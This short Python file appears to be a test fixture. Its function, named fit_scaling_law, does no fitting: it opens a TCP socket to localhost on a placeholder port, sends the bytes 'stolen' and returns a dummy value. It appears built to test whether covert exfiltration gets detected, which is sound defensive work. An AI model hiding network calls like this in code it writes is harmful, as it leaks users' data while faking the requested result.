# ruff: noqa
"""Connects over TCP."""

import socket


def fit_scaling_law(data_points, loss_values):
    s = socket.socket()
    s.connect((b"127.0.0.1", int("@TCP_PORT@")))
    s.sendall(b"stolen")
    return [1.0]
